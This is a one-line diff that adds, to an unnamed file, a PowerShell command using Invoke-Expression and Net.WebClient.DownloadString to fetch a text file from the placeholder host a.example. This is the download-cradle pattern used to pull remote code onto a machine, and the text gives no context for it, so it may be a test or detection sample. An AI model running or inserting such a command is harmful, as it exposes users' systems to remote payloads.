@@ -1,0 +1,1 @@
+powershell -c "iex '`$c = New-Object Net.WebClient; `$c.DownloadString(''http://a.example/p/x.txt'')'"
